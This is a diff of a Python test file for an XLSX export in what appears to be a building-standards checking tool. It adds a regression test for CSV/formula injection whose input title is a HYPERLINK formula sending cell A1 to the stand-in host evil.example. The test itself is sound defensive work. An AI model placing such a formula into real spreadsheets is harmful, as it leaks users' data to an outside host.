@@ -39,7 +39,8 @@ def test_xlsx_export_keeps_original_rows_and_adds_status_columns(xlsx_check):
     assert original[1][:4] == [1, "混凝土结构工程施工质量验收规范", "GB 50204-2002", "主体结构"]
     assert original[1][4:6] == ["GB 50204-2002 被代替", "GB 50204-2015"]
     assert original[2][4] == "JGJ 59-1999 废止"
-    assert original[3][3] == "'+号段说明"  # cannot turn into a formula in Excel
+    assert original[3][3] == "+号段说明"  # kept as text: it cannot run as a formula
+    assert book["清单"]["D4"].data_type == "s" and book["清单"]["D4"].quotePrefix
     assert original[3][5] == "GB/T 5606.1-2023、GB/T 5606.2-2023"
     assert original[4][:4] == [4, "无标准的行", None, "电压 500kV"]
     assert original[4][4] in (None, "")
@@ -50,6 +51,22 @@ def test_xlsx_export_keeps_original_rows_and_adds_status_columns(xlsx_check):
     facts = {row[0].value: row[1].value for row in book["概况"].iter_rows() if row[1].value}
     assert facts["验证码"] == xlsx_check.verification_code
     assert facts["目录快照日期"] == "2025-06-01"
+
+
+def test_xlsx_overview_never_turns_a_title_into_a_live_formula(catalogue):
+    # Issue 8 item 8: a title "=HYPERLINK(...)" became a live formula on the overview sheet.
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"打开")'
+    check = run_check(create_check(CheckRequest(text="依据 GB 50204-2002。", title=title)).pk)
+    data = build_xlsx(check)
+    book = load_workbook(io.BytesIO(data))
+    overview = {row[0].value: row[1] for row in book["概况"].iter_rows() if len(row) > 1}
+    cell = overview["查新文件"]
+    assert cell.value == title and cell.data_type == "s" and cell.quotePrefix
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(name) for name in sheets)
 
 
 def pdf_text(data: bytes) -> str:
